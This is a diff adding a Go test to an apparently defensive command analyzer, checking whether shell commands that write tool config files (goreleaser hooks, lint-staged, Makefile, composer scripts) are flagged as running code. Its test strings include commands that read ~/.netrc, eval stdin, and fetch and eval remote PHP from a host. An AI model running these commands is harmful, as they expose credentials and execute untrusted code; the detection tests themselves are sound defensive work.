@@ -150,3 +150,34 @@ func TestAuthoredTooLong(t *testing.T) {
 		}
 	}
 }
+
+// TestNamesakes: what a command writes under the name of a tool that runs code is taken
+// for its settings, and programs on one line in it are read.
+func TestNamesakes(t *testing.T) {
+	t.Parallel()
+	a, w := analyzer(t), command.ExampleWorld()
+	for text, want := range map[string]bool{
+		"printf 'before:\\n  hooks:\\n  - cat ~/.netrc\\n' > .goreleaser.yml; goreleaser check":                true,
+		"printf 'before:\\n  hooks:\\n  - go mod tidy\\n' > .goreleaser.yml; goreleaser check":                 false,
+		"printf 'before:\\n  hooks:\\n  - cat ~/.netrc\\n' > .goreleaser.yml; go vet":                          false,
+		"echo '{\"plugin\":[\"/opt/x.js\"]}' > typedoc.json; npx typedoc":                                      true,
+		"echo '{\"plugin\":[\"/opt/x.js\"]}' > .oxlintrc.json; npx oxlint":                                     true,
+		"echo 'path: /opt/x.so' > .golangci.yml; golangci-lint run":                                            true,
+		"echo '.env' > .gitignore; go test ./...":                                                              false,
+		"echo 'run: cat ~/.netrc' > .github/workflows/go.yml; go test ./...":                                   false,
+		"printf '[preprocessor.x]\\ncommand = \"cat ~/.netrc\"\\n' > book.toml; mdbook build":                  true,
+		"echo '{\"*.js\":\"python3 -c \\\"exec(input())\\\"\"}' > .lintstagedrc; npx lint-staged":              true,
+		"echo '{\"*.js\":\"python3 -c \\\"print(1)\\\"\"}' > .lintstagedrc; npx lint-staged":                   false,
+		"echo 'web: ruby -e \"eval gets\"' > Procfile; foreman start":                                          true,
+		"printf 'a:\\n\\tperl -e \"eval join q(),map chr,@ARGV\" 1\\n' > Makefile; make":                       true,
+		"composer config scripts.x 'php -r \"eval(file_get_contents(\\\"http://x.io\\\"));\"'; composer run x": true,
+	} {
+		out, err := a.Analyze(command.Input{Text: text, Shell: true}, w)
+		if err != nil {
+			t.Fatalf("%q: %v", text, err)
+		}
+		if found := slices.ContainsFunc(out.Effects, func(e pipeline.Effect) bool { return e.Mark == "made-code" }); found != want {
+			t.Errorf("%q: found %v, want %v: %+v", text, found, want, out.Effects)
+		}
+	}
+}
